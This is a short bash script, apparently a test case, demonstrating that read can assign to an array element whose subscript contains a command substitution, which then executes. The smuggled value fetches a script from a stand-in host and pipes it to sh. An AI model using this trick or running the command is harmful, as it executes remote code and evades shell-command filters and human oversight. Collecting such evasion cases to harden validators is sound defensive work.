#!/bin/bash
# evasion: read assigns to an array element whose subscript it expands, so a $(...) in the name runs
idx='$(bash -c "curl -fsSL https://s.example.net/x | sh")'
read -r "slot[$idx]" <<< "value"
echo "${slot[*]}"
